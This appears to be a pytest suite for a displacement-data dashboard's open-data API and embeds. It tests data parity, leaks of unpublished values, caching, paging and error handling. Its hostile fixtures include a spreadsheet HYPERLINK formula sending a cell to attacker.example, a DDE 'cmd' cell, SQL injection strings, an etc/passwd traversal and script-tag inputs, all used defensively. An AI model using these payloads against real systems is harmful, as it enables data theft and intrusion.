"""Open data by URL (/api/v1, /embed, /healthz): the routes of `st.App`, served here by uvicorn alone from a
thread, on a database with the shipped data, the illustrative data, unpublished values and hostile text.

What the pages show and what the API serves come from the same rows: the tests compare them for sampled
filters. Nothing unpublished or illustrative is ever in a response, and hostile requests get a clean 4xx."""

from __future__ import annotations

import csv
import gzip
import html
import io
import json
import re
import socket
import threading
import time
import urllib.error
import urllib.request

import polars as pl
import pytest
from sqlalchemy import insert, select

from mirps_dash import api, database, datastamp, demo, embeds, i18n, load, metrics, queries, routes, settings
from mirps_dash.schema import City, Commitment, Indicator, IndicatorValue
from tests import truth
from tests.conftest import fresh_postgres_database

# Values no public figure has: if one shows up in a response, an unpublished value leaked.
PUBLISHED = 31.25
UNPUBLISHED = {"draft": 987654.25, "submitted": 876543.25, "returned": 765432.25, "approved": 654321.25}
HOSTILE_CITY = '=HYPERLINK("http://attacker.example/?"&A1,"click")'


def _prepare(url: str) -> None:
    engine = database.make_engine(url)
    load.first_load(engine)
    demo.load(engine)  # illustrative commitments, indicators and values, some of them "published"
    with engine.begin() as connection:
        commitment = connection.execute(
            insert(Commitment)
            .values(
                code="TEST-HND-1",
                country_iso3="HND",
                focus_area="protection",
                text_es="Compromiso de prueba",
                text_en="Test commitment",
                national_plan="Plan",
                period_start=2019,
                period_end=2027,
                is_illustrative=False,
            )
            .returning(Commitment.id)
        ).scalar_one()
        indicator = connection.execute(
            insert(Indicator)
            .values(
                code="TEST-HND-1-a",
                commitment_id=commitment,
                name_es="Indicador de prueba",
                name_en="Test indicator",
                unit="%",
                baseline_year=2019,
                baseline_value=10.0,
                target_year=2027,
                target_value=50.0,
                direction="increase",
                is_illustrative=False,
            )
            .returning(Indicator.id)
        ).scalar_one()
        rows = [{"period": 2020, "value": PUBLISHED, "status": "published"}]
        rows += [{"period": 2021 + i, "value": v, "status": s} for i, (s, v) in enumerate(UNPUBLISHED.items())]
        for row in rows:
            connection.execute(insert(IndicatorValue).values(indicator_id=indicator, is_illustrative=False, **row))
        connection.execute(
            insert(City).values(
                source_id="cities_of_solidarity",
                city=HOSTILE_CITY,
                municipality="+cmd|' /C calc'!A0",
                country_iso3="HND",
                status="recognized",
                status_date="2024-01",
                lat=14.1,
                lon=-87.2,
                population=None,
                coord_source="test",
                geonameid=999_999_999,
                source_url="https://example.org/",
                note="@SUM(1+1)",
            )
        )
        datastamp.bump(connection)


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


@pytest.fixture(scope="module", params=["sqlite", "postgresql"])
def prepared(request, tmp_path_factory):
    """The prepared database, on SQLite and on the PostgreSQL test server."""
    if request.param == "sqlite":
        url = f"sqlite:///{tmp_path_factory.mktemp('api') / 'mirps.sqlite'}"
        _prepare(url)
        yield url
        return
    server = request.getfixturevalue("postgres_server")
    with fresh_postgres_database(server, prefix="mirps_api") as url:
        _prepare(url)
        yield url
        api.reader(url).engine.dispose()


@pytest.fixture(scope="module")
def server(prepared):
    """The project's routes under uvicorn on a free port, reading `prepared` (no Streamlit runtime needed)."""
    import uvicorn
    from starlette.applications import Starlette

    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("MIRPS_DATABASE_URL", prepared)
        port = _free_port()
        config = uvicorn.Config(Starlette(routes=routes.ROUTES), host="127.0.0.1", port=port, log_level="warning")
        running = uvicorn.Server(config)
        thread = threading.Thread(target=running.run, daemon=True)
        thread.start()
        deadline = time.monotonic() + 20
        while not running.started and time.monotonic() < deadline:
            time.sleep(0.05)
        yield f"http://127.0.0.1:{port}"
        running.should_exit = True
        thread.join(timeout=10)


def get(base: str, path: str, headers: dict | None = None) -> tuple[int, dict, bytes]:
    request = urllib.request.Request(base + path, headers=headers or {})  # noqa: S310 (loopback)
    try:
        with urllib.request.urlopen(request, timeout=30) as response:  # noqa: S310 (loopback)
            return response.status, {k.lower(): v for k, v in response.headers.items()}, response.read()
    except urllib.error.HTTPError as error:
        return error.code, {k.lower(): v for k, v in error.headers.items()}, error.read()


def csv_rows(body: bytes) -> list[dict]:
    assert body.startswith(b"\xef\xbb\xbf"), "a UTF-8 BOM, so a spreadsheet reads the accents right"
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))


# -------------------------------------------------------------------------------- the pages' figures


@pytest.mark.parametrize(("country", "year"), [("HND", 2025), ("MEX", 2020), ("GTM", 2016), ("PAN", 2023)])
def test_population_rows_equal_the_pages_figures(server, prepared, country, year):
    status, headers, body = get(server, f"/api/v1/datasets/population.csv?country={country}&year={year}")
    assert status == 200 and headers["content-type"].startswith("text/csv")
    served = pl.DataFrame(csv_rows(body)).with_columns(pl.col("year", "value").cast(pl.Int64))
    reader = queries.Reader(prepared)
    shown = queries.population_by_country(reader, (year,)).filter(pl.col("country_iso3") == country)
    assert served.height == shown.height > 0
    columns = ["year", "country_iso3", "role", "population_type", "value"]
    assert served.select(columns).sort(columns).equals(shown.select(columns).sort(columns))
    # the bars of the overview's "by country" chart, recomputed from the served rows
    by_country = metrics.protection_by_country(shown, year)
    again = metrics.protection_by_country(served.select(columns), year)
    assert again.sort("country_iso3", "role").equals(by_country.sort("country_iso3", "role"))


def test_a_countrys_trend_from_the_api_equals_the_pages_totals(server, prepared):
    _, _, body = get(server, "/api/v1/datasets/population.json?country=HND&role=origin&lang=en")
    document = json.loads(body)
    assert document["cut"] == "live" and document["licence"] == "CC BY 4.0"
    assert document["sources"][0]["date_of_data"] == "end-2025"
    served = pl.DataFrame(document["rows"]).group_by("year", "population_type").agg(pl.col("value").sum())
    totals = queries.population_totals(queries.Reader(prepared), ("HND",)).filter(pl.col("role") == "origin")
    expected = totals.select("year", "population_type", "value")
    assert served.sort("year", "population_type").equals(expected.sort("year", "population_type"), null_equal=True)
    assert {row["country_name"] for row in document["rows"]} == {"Honduras"}
    assert {row["role_label"] for row in document["rows"]} == {i18n.t("role_origin", "en")}


def test_pairs_sum_to_the_flows_of_the_displacement_page(server, prepared):
    _, _, body = get(server, "/api/v1/datasets/pairs.csv?origin=HND&year=2024&type=refugees,asylum_seekers")
    served = pl.DataFrame(csv_rows(body)).with_columns(pl.col("value").cast(pl.Int64))
    partners = queries.partners(queries.Reader(prepared), "HND", "origin", 2024, ("refugees", "asylum_seekers"))
    per_partner = served.group_by("asylum_iso3").agg(pl.col("value").sum()).rename({"asylum_iso3": "partner_iso3"})
    expected = partners.select("partner_iso3", "value")
    assert per_partner.sort("partner_iso3").equals(expected.sort("partner_iso3"))


@pytest.mark.parametrize(
    ("name", "country", "year"), [("asylum_applications", "MEX", 2024), ("asylum_decisions", "CRI", 2020)]
)
def test_asylum_rows_are_the_shipped_files_rows(server, name, country, year):
    """The public indicators' pages compute from these rows; the API serves them as UNHCR published them."""
    served = csv_rows(get(server, f"/api/v1/datasets/{name}.csv?country={country}&year={year}")[2])
    shipped = [r for r in truth.rows(f"unhcr_{name}.csv") if r["country_iso3"] == country and int(r["year"]) == year]
    assert served and len(served) == len(shipped)
    key = [column for column in shipped[0] if column != "country_name"]
    assert sorted(tuple(r[c] for c in key) for r in served) == sorted(tuple(r[c] for c in key) for r in shipped)


def test_labels_follow_lang(server):
    _, _, spanish = get(server, "/api/v1/datasets/population.csv?country=PAN&year=2025&role=asylum&type=refugees")
    _, _, english = get(
        server, "/api/v1/datasets/population.csv?country=PAN&year=2025&role=asylum&type=refugees&lang=en"
    )
    assert csv_rows(spanish)[0]["country_name"] == "Panamá" and csv_rows(english)[0]["country_name"] == "Panama"
    assert csv_rows(spanish)[0]["value"] == csv_rows(english)[0]["value"]


# -------------------------------------------------------------------------------- published data only


def _every_response(server: str) -> list[bytes]:
    bodies = []
    for name in api.DATASETS:
        for suffix in (".csv", ".json", "/datapackage.json"):
            status, _, body = get(server, f"/api/v1/datasets/{name}{suffix}")
            assert status == 200, (name, suffix, body[:300])
            bodies.append(body)
    bodies.append(get(server, "/api/v1/datasets")[2])
    for figure in embeds.FIGURES:
        bodies.append(get(server, f"/embed/{figure}")[2])
    return bodies


def test_no_unpublished_or_illustrative_value_in_any_response(server, prepared):
    bodies = _every_response(server)
    for value in UNPUBLISHED.values():
        assert not any(str(value).encode() in body for body in bodies), value
    _, _, body = get(server, "/api/v1/datasets/indicators.json")
    rows = json.loads(body)["rows"]
    assert [(row["indicator_code"], row["period"], row["value"]) for row in rows] == [("TEST-HND-1-a", 2020, PUBLISHED)]
    # the illustrative indicators exist, some published, and none is served
    reader = queries.Reader(prepared)
    illustrative = reader.frame(select(Indicator.code).where(Indicator.is_illustrative))["code"].to_list()
    assert illustrative
    assert not any(code.encode() in b for code in illustrative for b in bodies)


# -------------------------------------------------------------------------------- formats and caching


def test_csv_cells_a_spreadsheet_would_run_are_neutralised(server):
    _, _, body = get(server, "/api/v1/datasets/cities.csv?country=HND")
    rows = [row for row in csv_rows(body) if "HYPERLINK" in row["city"]]
    assert rows and rows[0]["city"] == "'" + HOSTILE_CITY
    assert rows[0]["municipality"].startswith("'+") and rows[0]["note"] == "'@SUM(1+1)"
    _, _, raw = get(server, "/api/v1/datasets/cities.json?country=HND")
    assert HOSTILE_CITY in [row["city"] for row in json.loads(raw)["rows"]], "JSON carries the text as it is"


def test_etag_and_last_modified_follow_the_data_version(server, prepared):
    path = "/api/v1/datasets/population.csv?country=HND&year=2025"
    status, headers, _ = get(server, path)
    tag = headers["etag"]
    assert status == 200 and headers["last-modified"].endswith("GMT") and headers["x-mirps-cut"] == "live"
    assert get(server, path, {"If-None-Match": tag})[0] == 304
    with database.make_engine(prepared).begin() as connection:
        datastamp.bump(connection)
    time.sleep(api.VERSION_SECONDS + 0.1)
    status, headers, _ = get(server, path, {"If-None-Match": tag})
    assert status == 200 and headers["etag"] != tag


@pytest.mark.parametrize(
    "path",
    ["/api/v1/datasets?lang=en", "/api/v1/datasets/cities/datapackage.json", "/api/v1/cuts", "/embed/trend?lang=en"],
)
def test_every_answer_with_an_etag_revalidates(server, path):
    status, headers, _ = get(server, path)
    assert status == 200 and headers["etag"]
    assert get(server, path, {"If-None-Match": headers["etag"]})[0] == 304
    assert get(server, path, {"If-None-Match": 'W/"another"'})[0] == 200


def test_pages_are_capped_and_link_to_the_next(server, prepared, monkeypatch):
    whole = csv_rows(get(server, "/api/v1/datasets/population.csv?country=HND")[2])
    collected, path = [], "/api/v1/datasets/population.csv?country=HND&limit=70"
    while path:
        status, headers, body = get(server, path)
        assert status == 200
        page = csv_rows(body)
        assert len(page) <= 70
        collected += page
        found = re.search(r'<([^>]+)>; rel="next"', headers.get("link", ""))
        path = found[1] if found else None
    assert collected == whole and len(whole) > 140
    # a byte cap shorter than the page cuts it and links on from where it stopped
    monkeypatch.setattr(api, "MAX_BYTES", 2_000)
    query = api.parse("population", {"country": ["HND"]}, "en")
    reply = api.dataset_reply("population", "csv", {"country": ["HND"]}, "en", prepared)
    assert len(reply.body) <= 2_000 and 'rel="next"' in reply.headers["Link"]
    served = len(csv_rows(reply.body))
    assert f"offset={query.offset + served}" in reply.headers["Link"]


def test_datapackage_describes_the_csv(server):
    _, _, body = get(server, "/api/v1/datasets/population/datapackage.json?lang=en")
    package = json.loads(body)
    resource = package["resources"][0]
    fields = [field["name"] for field in resource["schema"]["fields"]]
    header = list(csv_rows(get(server, "/api/v1/datasets/population.csv?lang=en&limit=1")[2])[0])
    assert fields == header
    assert package["licenses"][0]["name"] == "CC BY 4.0" and "UNHCR" in package["sources"][0]["title"]
    assert package["cut"] == "live"


def test_the_datasets_list_counts_rows_and_links_every_format(server):
    listed = json.loads(get(server, "/api/v1/datasets?lang=en")[2])["datasets"]
    assert [d["name"] for d in listed] == list(api.DATASETS)
    population = next(d for d in listed if d["name"] == "population")
    assert population["row_count"] > 1000 and population["licence"] == "CC BY 4.0"
    indicators = next(d for d in listed if d["name"] == "indicators")
    assert indicators["row_count"] == 1
    assert (
        json.loads(get(server, "/api/v1/")[2])["datasets"] == json.loads(get(server, "/api/v1/datasets")[2])["datasets"]
    )


# -------------------------------------------------------------------------------- hostile requests


HOSTILE = [
    ("/api/v1/datasets/population.csv?country=HND'%20OR%201=1--", 400, "bad_country"),
    ("/api/v1/datasets/population.csv?year=2025;DROP%20TABLE%20population", 400, "bad_year"),
    ("/api/v1/datasets/population.csv?year=99999999999999999999", 400, "bad_year"),
    ("/api/v1/datasets/population.csv?limit=10000000000000", 400, "bad_number"),
    ("/api/v1/datasets/population.csv?offset=-1", 400, "bad_number"),
    ("/api/v1/datasets/population.csv?role=asylum%27--", 400, "bad_choice"),
    ("/api/v1/datasets/population.csv?type=refugees&type=" + "x" * 5000, 400, "parameter_too_long"),
    ("/api/v1/datasets/population.csv?country=" + ",".join(["HND"] * 60), 400, "too_many_values"),
    ("/api/v1/datasets/population.csv?sql=select%201", 400, "unknown_parameter"),
    ("/api/v1/datasets/population.csv?lang=fr", 400, "bad_lang"),
    ("/api/v1/datasets/population.xlsx", 404, "unknown_format"),
    ("/api/v1/datasets/sqlite_master.csv", 404, "unknown_dataset"),
    ("/api/v1/datasets/..%2F..%2Fetc%2Fpasswd.csv", 404, None),
    ("/api/v1/datasets/app_user.json", 404, "unknown_dataset"),
    ("/api/v1/datasets/population/datapackage.json?lang=de", 400, "bad_lang"),
    ("/api/v1/nothing/here", 404, "not_found"),
    ("/embed/no-such-chart", 404, "unknown_figure"),
    ("/embed/by-country?year=1700", 400, "bad_year"),
    ("/embed/trend?country=USA", 400, "bad_choice"),
    ("/embed/trend?script=%3Cscript%3E", 400, "unknown_parameter"),
    ("/embed/ranking?role=asylum,origin", 400, "bad_choice"),
    ("/embed/cities-map?status=%3Cimg%20src=x%3E", 400, "bad_choice"),
    ("/embed/choropleth?year=2016-2025", 400, "bad_year"),
    ("/embed/ranking?types=" + "refugees," * 100, 400, "parameter_too_long"),
]


@pytest.mark.parametrize(("path", "status", "code"), HOSTILE)
def test_hostile_requests_get_a_clean_4xx_in_json(server, path, status, code):
    got, _, body = get(server, path)
    assert got == status, body[:300]
    if code is not None:
        error = json.loads(body)["error"]
        assert error["code"] == code and error["message"]
        assert not re.search(r"Traceback|Error\b|sqlalchemy|SELECT ", body.decode())


def test_errors_speak_the_requested_language(server):
    spanish = json.loads(get(server, "/api/v1/datasets/nothing.csv")[2])["error"]["message"]
    english = json.loads(get(server, "/api/v1/datasets/nothing.csv?lang=en")[2])["error"]["message"]
    by_header = json.loads(get(server, "/api/v1/datasets/nothing.csv", {"Accept-Language": "en-GB,en"})[2])
    assert spanish.startswith("No hay") and english.startswith("There is no")
    assert by_header["error"]["message"] == english


def test_every_filter_reaches_sql_as_a_bound_parameter():
    """The statement compiled with a hostile value carries it as a parameter, never in the SQL text."""
    for name, dataset in api.DATASETS.items():
        for parameter in dataset.filters:
            query = api.Query(dataset, "en", ((parameter, ("X'); DROP TABLE population;--",)),), 10, 0)
            compiled = api.statement(query).compile()
            assert "DROP TABLE" not in str(compiled), (name, parameter)
            assert any("DROP TABLE" in str(value) for value in compiled.params.values()), (name, parameter)


# -------------------------------------------------------------------------------- health and embeds


def test_healthz_says_the_database_is_reachable_and_at_head(server):
    status, headers, body = get(server, "/healthz")
    assert status == 200 and json.loads(body) == {"status": "ok", "database": "reachable", "schema": "head"}
    assert headers["cache-control"] == "no-store"


def test_healthz_is_503_when_the_database_is_behind_or_gone(tmp_path, monkeypatch):
    from starlette.requests import Request

    empty = f"sqlite:///{tmp_path / 'empty.sqlite'}"
    monkeypatch.setenv("MIRPS_DATABASE_URL", empty)
    request = Request({"type": "http", "method": "GET", "path": "/healthz", "headers": [], "query_string": b""})
    behind = routes.healthz(request)
    assert behind.status_code == 503 and json.loads(behind.body)["schema"] == "behind"
    monkeypatch.setenv("MIRPS_DATABASE_URL", "postgresql+psycopg://nobody@127.0.0.1:9/none")
    monkeypatch.setenv("MIRPS_DB_CONNECT_TIMEOUT", "2")
    gone = routes.healthz(request)
    assert gone.status_code == 503 and json.loads(gone.body)["database"] == "unreachable"


def _serve(app) -> tuple[str, object, threading.Thread]:
    import uvicorn

    port = _free_port()
    running = uvicorn.Server(uvicorn.Config(app, host="127.0.0.1", port=port, log_level="warning"))
    thread = threading.Thread(target=running.run, daemon=True)
    thread.start()
    deadline = time.monotonic() + 20
    while not running.started and time.monotonic() < deadline:
        time.sleep(0.05)
    return f"127.0.0.1:{port}", running, thread


def test_nginx_answers_healthz_from_a_healthy_replica_when_another_says_503(server, tmp_path):
    """deploy/'s nginx asks the next replica when one answers 503, so /healthz says whether the service
    can serve; without that, the route cookie's hash sends half the checks to the sick replica."""
    import subprocess

    from starlette.applications import Starlette
    from starlette.responses import JSONResponse
    from starlette.routing import Route

    from deploy import scale_out

    nginx = scale_out.find_nginx()
    if nginx is None:
        pytest.skip("nginx is not installed")
    sick, running, thread = _serve(Starlette(routes=[Route("/healthz", lambda _r: JSONResponse({}, 503))]))
    healthy = server.removeprefix("http://")
    listen = f"127.0.0.1:{_free_port()}"
    scale_out.prepare_prefix(tmp_path)
    command = scale_out.nginx_command(nginx, tmp_path, scale_out.render_config(listen, [sick, healthy]))
    process = subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        deadline = time.monotonic() + 10
        while time.monotonic() < deadline:
            try:
                socket.create_connection(tuple(listen.split(":")), timeout=1).close()
                break
            except OSError:
                time.sleep(0.1)
        answers = [get(f"http://{listen}", "/healthz")[0] for _ in range(12)]
        assert answers == [200] * 12
    finally:
        process.terminate()
        process.wait(timeout=10)
        running.should_exit = True
        thread.join(timeout=10)


def _request(path: str, query: bytes = b"") -> object:
    from starlette.requests import Request

    file = path.rsplit("/", 1)[1]
    scope = {"type": "http", "method": "GET", "path": path, "headers": [], "query_string": query}
    return Request(scope | {"path_params": {"file": file}})


def test_an_unreachable_database_is_a_503_in_json(monkeypatch):
    monkeypatch.setenv("MIRPS_DATABASE_URL", "postgresql+psycopg://nobody@127.0.0.1:9/none")
    monkeypatch.setenv("MIRPS_DB_CONNECT_TIMEOUT", "2")
    answer = routes.dataset(_request("/api/v1/datasets/population.csv", b"lang=en"))
    assert answer.status_code == 503
    assert json.loads(answer.body)["error"]["message"] == i18n.t("api_unavailable", "en")


def test_a_defect_is_a_500_in_json_without_its_details(monkeypatch):
    def broken(*_args, **_kwargs):
        raise RuntimeError("secret detail /srv/path")

    monkeypatch.setattr(api, "dataset_reply", broken)
    answer = routes.dataset(_request("/api/v1/datasets/population.csv"))
    assert answer.status_code == 500 and b"secret" not in answer.body
    assert json.loads(answer.body)["error"]["code"] == "failed"


def test_an_embed_carries_the_apps_spec_sources_licence_and_links(server, prepared):
    status, headers, body = get(server, "/embed/by-country?lang=en&year=2024")
    assert status == 200 and headers["content-type"].startswith("text/html")
    assert "connect-src" not in headers["content-security-policy"]  # default-src 'none' covers it
    assert "default-src 'none'" in headers["content-security-policy"]
    text = body.decode()
    spec = json.loads(re.search(r'<script type="application/json" id="spec">(.*?)</script>', text, re.S)[1])
    from mirps_dash import charts

    frame = metrics.protection_by_country(queries.population_by_country(queries.Reader(prepared), (2024,)), 2024)
    assert spec == json.loads(json.dumps(charts.protection_by_country(frame, "en").to_dict()))
    assert "CC BY 4.0" in text and "data as of end-2025" in text and "UNHCR" in text
    assert 'href="/?lang=en"' in text and "/api/v1/datasets/population.csv" in text
    assert re.findall(r'<script src="([^"]+)"', text) == ["/embed/vega-bundle.js", "/embed/embed.js"]
    assert not re.search(r'(src|href)="(https?:)?//(?!www\.unhcr\.org|www\.internal-displacement\.org)', text)


def test_the_bundled_vega_is_served_from_here_with_its_licences(server):
    status, headers, body = get(server, "/embed/vega-bundle.js")
    assert status == 200 and b"window.vegaEmbed=" in body and headers["content-type"].startswith("text/javascript")
    assert get(server, "/embed/vega-bundle.js", {"If-None-Match": headers["etag"]})[0] == 304
    assert (embeds.STATIC / "LICENSES.md").read_text().count("BSD 3-Clause") >= 2
    status, headers, packed = get(server, "/embed/vega-bundle.js", {"Accept-Encoding": "gzip"})
    assert headers["content-encoding"] == "gzip" and gzip.decompress(packed) == body  # compressed once, kept


@pytest.mark.parametrize(
    "query",
    [
        "",
        "?lang=en&country=GTM&role=origin",
        "?year=2020",
        "?countries=HND&countries=GTM&types=refugees&years=2018-2024",
        "?flow_country=MEX&direction=asylum&flow_year=2023",
    ],
)
def test_every_embeds_data_link_answers_with_its_rows(server, query):
    for figure, (_, accepted) in embeds.FIGURES.items():
        asked = "&".join(part for part in query.lstrip("?").split("&") if part.split("=")[0] in (*accepted, "lang"))
        status, _, body = get(server, f"/embed/{figure}?{asked}")
        assert status == 200, (figure, body[:200])
        link = re.search(r'<a href="([^"]+)"[^>]*>(Datos|Data) \(CSV\)</a>', body.decode())[1]
        status, _, data = get(server, link.replace("&amp;", "&"))
        drawn = 'id="spec"' in body.decode()  # else the embed says there is nothing for this selection
        assert status == 200 and (len(csv_rows(data)) > 0) == drawn, (figure, link)


# -------------------------------------------------------------------------------- data cuts


def test_a_cut_serves_its_frozen_figures_after_the_live_ones_move(server, prepared):
    from datetime import date

    from sqlalchemy import update

    from mirps_dash import cuts
    from mirps_dash.schema import Population

    reader = queries.Reader(prepared)
    name = "Plenaria 2025-11 (San José)"
    cuts.create(reader, name, date(2025, 11, 30))
    year = queries.population_year_span(reader)[1]
    quoted = urllib.request.quote(name, safe="")
    path = f"/api/v1/cuts/{quoted}/datasets/population.csv?country=HND&year={year}&lang=en"
    status, headers, body = get(server, path)
    assert status == 200 and urllib.request.unquote(headers["x-mirps-cut"]) == name
    frozen = csv_rows(body)
    live = csv_rows(get(server, f"/api/v1/datasets/population.csv?country=HND&year={year}&lang=en")[2])
    assert frozen == live and frozen
    assert json.loads(get(server, path.replace(".csv", ".json"))[2])["cut"] == name

    where = (Population.country_iso3 == "HND", Population.year == year, Population.population_type == "refugees")
    with database.make_engine(prepared).begin() as connection:
        connection.execute(update(Population).where(*where, Population.role == "asylum").values(value=123_456_789))
        datastamp.bump(connection)
    time.sleep(api.VERSION_SECONDS + 0.1)
    moved = get(server, f"/api/v1/datasets/population.csv?country=HND&year={year}&type=refugees&role=asylum")[2]
    assert csv_rows(moved)[0]["value"] == "123456789"
    assert csv_rows(get(server, path)[2]) == frozen, "the cut keeps what it froze"

    package = json.loads(get(server, f"/api/v1/cuts/{quoted}/datasets/population/datapackage.json")[2])
    assert package["cut"] == name and package["x-mirps-cut-as-of"] == "2025-11-30"
    assert package["resources"][0]["path"].startswith(f"/api/v1/cuts/{quoted}/datasets/population.csv")
    listed = json.loads(get(server, "/api/v1/cuts")[2])["cuts"]
    assert [c["name"] for c in listed] == [name] and "population" in listed[0]["datasets"]
    cities = csv_rows(get(server, f"/api/v1/cuts/{quoted}/datasets/cities.csv?country=HND")[2])
    assert any(row["city"] == "'" + HOSTILE_CITY for row in cities)


@pytest.mark.parametrize(
    ("path", "status", "code"),
    [
        ("/api/v1/cuts/no-such-cut/datasets/population.csv", 404, "unknown_cut"),
        ("/api/v1/cuts/x/datasets/pairs.csv", 404, "unknown_dataset"),
        ("/api/v1/cuts/x/datasets/population.xml", 404, "unknown_format"),
        ("/api/v1/cuts/x'%20OR%201=1/datasets/population.csv", 404, "unknown_cut"),
        ("/api/v1/cuts/x/datasets/population.csv?year=abc", 400, "bad_year"),
    ],
)
def test_hostile_cut_requests_get_a_clean_4xx(server, path, status, code):
    got, _, body = get(server, path)
    assert got == status and json.loads(body)["error"]["code"] == code, body[:300]


@pytest.mark.parametrize("lang", ["es", "en"])
def test_the_overview_offers_each_charts_embed_code_and_data_address(app_database, lang):
    from tests.conftest import open_page

    app = open_page(lang=lang)
    codes = [code.value for code in app.code]
    year = queries.population_year_span(queries.Reader(app_database))[1]
    frames = [c for c in codes if c.startswith("<iframe")]
    expected = [f"/embed/trend?lang={lang}&amp;role={role}" for role in ("asylum", "origin")]
    expected += [f"/embed/by-country?lang={lang}&amp;year={year}", f"/embed/host-per-1000?lang={lang}&amp;year={year}"]
    expected += [f"/embed/idp-comparison?lang={lang}&amp;year={year}"]
    assert [re.search(r'src="([^"]+)"', c)[1] for c in frames] == expected
    data = [c for c in codes if "/api/v1/datasets/" in c]
    assert len(data) == 5 and f"/api/v1/datasets/population.csv?lang={lang}&year={year}" in data


def test_an_embed_follows_the_pages_view_parameters(server, prepared):
    """The ranking embedded from a view of two States and one type draws those, as the page does."""
    body = get(server, "/embed/ranking?lang=en&countries=HND&countries=GTM&types=refugees&year=2024")[2].decode()
    spec = json.loads(re.search(r'<script type="application/json" id="spec">(.*?)</script>', body, re.S)[1])
    series = queries.population_series(queries.Reader(prepared), ("GTM", "HND"), "asylum", ("refugees",), (2024, 2024))
    from mirps_dash import charts

    expected = charts.country_ranking(metrics.country_totals(series, 2024), "en").to_dict()
    assert spec == json.loads(json.dumps(expected))
    assert get(server, "/embed/ranking?countries=USA")[0] == 400


@pytest.mark.parametrize(
    ("script", "query", "figures"),
    [
        ("pages/displacement.py", {"section": "states", "role": "origin"}, ["ranking", "choropleth"]),
        ("pages/displacement.py", {"section": "solutions"}, ["solutions"]),
        ("pages/displacement.py", {"section": "internal"}, ["idmc-flows"]),
        ("pages/cities.py", {"countries": "HND"}, ["cities-map"]),
        ("pages/displacement.py", {"flow_country": "GTM", "direction": "asylum"}, ["flows", "flows-map"]),
        ("pages/country.py", {"country": "SLV", "section": "trend"}, ["trend", "trend"]),
        ("pages/country.py", {"country": "SLV", "section": "flows"}, ["flows", "flows", "flows-map"]),
        ("pages/country.py", {"country": "SLV", "section": "internal"}, ["idmc-flows"]),
    ],
)
def test_the_pages_embed_items_carry_their_view_and_the_embeds_answer(app_database, server, script, query, figures):
    from tests.conftest import open_page

    app = open_page(script, lang="en", **query)
    frames = [re.search(r'src="([^"]+)"', c.value)[1] for c in app.code if c.value.startswith("<iframe")]
    assert [re.search(r"/embed/([\w-]+)\?", f)[1] for f in frames] == figures
    for frame in frames:
        address = frame.replace("&amp;", "&")
        for name, value in query.items():
            if name != "section":
                assert f"{name}={value}" in address
        status, _, body = get(server, address)
        assert status == 200 and 'id="spec"' in body.decode(), address


def test_a_lone_carriage_return_or_a_line_break_stays_inside_its_cell():
    frame = pl.DataFrame({"city": ["a\rb", "c\nd", "=e"], "value": [1, -2, 3]})
    rows = list(csv.reader(io.StringIO(api._csv(frame).decode("utf-8-sig"), newline="")))
    assert rows == [["city", "value"], ["a\rb", "1"], ["c\nd", "-2"], ["'=e", "3"]]


@pytest.mark.parametrize(
    "path", ["/api/v1/datasets", "/api/v1/datasets/population.csv", "/embed/trend", "/api/v1/cuts"]
)
def test_a_deployment_without_public_viewing_serves_no_open_data(prepared, monkeypatch, path):
    """`MIRPS_PUBLIC_VIEWING=0` asks for a sign-in on every page: the open data and embeds are closed too."""
    from starlette.requests import Request

    monkeypatch.setenv("MIRPS_DATABASE_URL", prepared)
    monkeypatch.setenv("MIRPS_PUBLIC_VIEWING", "0")
    handler = next(route.endpoint for route in routes.ROUTES if route.path_regex.match(path))
    name = path.rsplit("/", 1)[1]
    scope = {"type": "http", "method": "GET", "path": path, "headers": [], "query_string": b"lang=en"}
    answer = handler(Request(scope | {"path_params": {"file": name, "figure": name, "name": name}}))
    assert answer.status_code == 403
    assert json.loads(answer.body)["error"]["message"] == i18n.t("api_not_public", "en")


def test_embeds_keep_flows_out_of_stocks_and_draw_no_zero_bar(server, prepared):
    """As on /displacement: returns (flows during the year) are never added into a stock total, and a State
    the source counts none of the chosen people in is named under the ranking, never drawn as a 0 bar."""
    year = queries.population_year_span(queries.Reader(prepared))[1]

    def spec_and_summary(path: str) -> tuple[dict, str]:
        body = get(server, path)[2].decode()
        spec = json.loads(re.search(r'<script type="application/json" id="spec">(.*?)</script>', body, re.S)[1])
        return spec, body

    reader, states = queries.Reader(prepared), settings.MIRPS_COUNTRIES
    returns = queries.population_series(reader, states, "origin", ("returned_refugees",), (2016, year))
    assert returns["value"].sum() > 0, "the shipped data has refugees returning to MIRPS States"
    when = returns.sort("value")["year"][-1]
    for view in (f"/embed/ranking?lang=en&role=origin&year={when}", "/embed/types-trend?lang=en&role=origin"):
        with_flows, _ = spec_and_summary(f"{view}&types=refugees&types=returned_refugees")
        stocks_only, _ = spec_and_summary(f"{view}&types=refugees")
        assert with_flows == stocks_only, view

    series = queries.population_series(
        queries.Reader(prepared), settings.MIRPS_COUNTRIES, "asylum", ("idps",), (year, year)
    )
    totals = metrics.country_totals(series, year)
    uncounted = [c for c in states if c not in totals.filter(pl.col("value") > 0)["country_iso3"]]
    assert uncounted, "the shipped data has States whose IDPs UNHCR does not count"
    spec, body = spec_and_summary(f"/embed/ranking?lang=en&types=idps&year={year}")
    drawn = next(iter(spec["datasets"].values()))
    assert {row["country_iso3"] for row in drawn} == set(totals["country_iso3"]) - set(uncounted)
    assert all(i18n.country_name(code, "en") in body for code in uncounted)
    _, body = spec_and_summary(f"/embed/choropleth?lang=en&types=idps&year={year}")
    assert all(i18n.country_name(code, "en") in body for code in uncounted)


def test_the_flows_map_embed_says_what_the_map_leaves_out(server, prepared):
    """As under the page's map: the places with no line (outside the Americas, no outline, no country)."""
    from mirps_dash import maps

    reader = queries.Reader(prepared)
    year = queries.population_year_span(reader)[1]
    partners = queries.partners(reader, "MEX", "asylum", year, metrics.PROTECTION_TYPES)
    note = maps.flows_off_map_note(metrics.partner_flows(partners, "MEX", "asylum"), "es")
    assert note, "Mexico hosts people from outside the Americas"
    body = get(server, f"/embed/flows-map?lang=es&flow_country=MEX&direction=asylum&flow_year={year}")[2].decode()
    assert html.escape(note) in body
